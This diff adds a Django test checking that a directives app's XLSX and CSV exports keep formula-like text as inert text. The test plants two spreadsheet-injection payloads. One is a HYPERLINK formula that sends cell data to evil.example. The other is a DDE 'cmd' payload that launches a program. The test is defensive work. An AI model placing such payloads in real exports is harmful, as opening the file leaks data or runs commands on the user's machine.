@@ -13,8 +13,9 @@ from django.urls import reverse
 from django.utils import timezone
 from openpyxl import load_workbook
 
-from directives.models import Addressee, Assignment, Dispatch, Notification
+from directives.models import Addressee, Assignment, Directive, Dispatch, Notification
 from directives.services import assignments, extensions
+from recipients.models import Unit
 from tests.directives.workspace.data import make_issued
 from tests.factories import RecipientGroupFactory, UnitFactory
 
@@ -180,3 +181,24 @@ def test_dashboard_figures(client, clerk, directive, task1_x, officer_x, unit_y)
     assert ranking[0] == "UBND huyện Chư Păh"
     html = response.content.decode()
     assert 'id="dashboard-data"' in html and "<script>" not in html
+
+
+def test_exports_keep_formula_like_text_as_text(client, clerk, directive, acked_x):
+    """A unit or a subject that starts with "=", "+", "-" or "@" is not a live formula."""
+    hostile = '=HYPERLINK("http://evil.example/?d="&A2,"Mở")'
+    Unit.objects.filter(code="CHUPAH").update(name=hostile)
+    Directive.objects.filter(pk=directive.pk).update(subject="@SUM(1+1)*cmd|' /C calc'!A0")
+    client.force_login(clerk)
+    response = client.get(reverse("directives:matrix_xlsx", args=[directive.pk]))
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    assert hostile in [c.value for c in cells]  # the text itself, unchanged
+    named = next(c for c in cells if c.value == hostile)
+    assert named.data_type == "s" and named.quotePrefix
+
+    response = client.get(reverse("directives:matrix_csv", args=[directive.pk]))
+    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    values = [value for line in lines for value in line]
+    assert [v for v in values if v[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+    assert "'" + hostile in values and "'@SUM(1+1)*cmd|' /C calc'!A0" in values
